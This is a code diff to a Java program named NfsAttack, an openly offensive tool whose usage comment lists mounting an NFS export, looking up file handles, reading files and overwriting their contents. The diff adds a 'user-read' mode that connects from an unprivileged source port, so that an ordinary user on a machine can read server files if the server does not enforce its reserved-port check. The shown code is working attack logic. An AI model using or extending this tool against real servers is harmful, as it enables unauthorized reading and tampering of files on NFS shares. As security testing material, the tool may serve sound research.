@@ -19,6 +19,7 @@ import java.util.HexFormat;
  * java NfsAttack.java SERVER mount EXPORT                  prints the handle
  * java NfsAttack.java SERVER lookup HANDLE NAME…           prints the handle of what is there
  * java NfsAttack.java SERVER read HANDLE                   prints the file
+ * java NfsAttack.java SERVER user-read HANDLE              the same, from a port that any user of a machine has
  * java NfsAttack.java SERVER write HANDLE TEXT             overwrites the file's beginning
  * </pre>
  *
@@ -31,6 +32,7 @@ public final class NfsAttack {
     private static final int MOUNT = 100005;
 
     private final String server;
+    private boolean privileged = true;
 
     private NfsAttack(String server) {
         this.server = server;
@@ -56,6 +58,9 @@ public final class NfsAttack {
                 }
                 return hex(handle);
             case "read":
+                return read(bytes(words[2]));
+            case "user-read":
+                privileged = false;
                 return read(bytes(words[2]));
             default:
                 write(bytes(words[2]), words[3]);
@@ -154,20 +159,26 @@ public final class NfsAttack {
         }
 
         private void connect(int port) throws IOException {
+            if (privileged) {
+                bindBelow1024();
+            }
+            socket.setSoTimeout(20_000);
+            socket.setSoLinger(true, 0); // so that the port is free for the next
+            socket.connect(new InetSocketAddress(server, port), 20_000);
+        }
+
+        private void bindBelow1024() throws IOException {
             socket.setReuseAddress(true);
             for (int local = 1023; ; local--) {
                 try {
                     socket.bind(new InetSocketAddress((InetAddress) null, local));
-                    break;
+                    return;
                 } catch (IOException taken) {
                     if (local == 600) {
                         throw taken;
                     }
                 }
             }
-            socket.setSoTimeout(20_000);
-            socket.setSoLinger(true, 0); // so that the port is free for the next
-            socket.connect(new InetSocketAddress(server, port), 20_000);
         }
 
         void opaque(byte[] data) throws IOException {
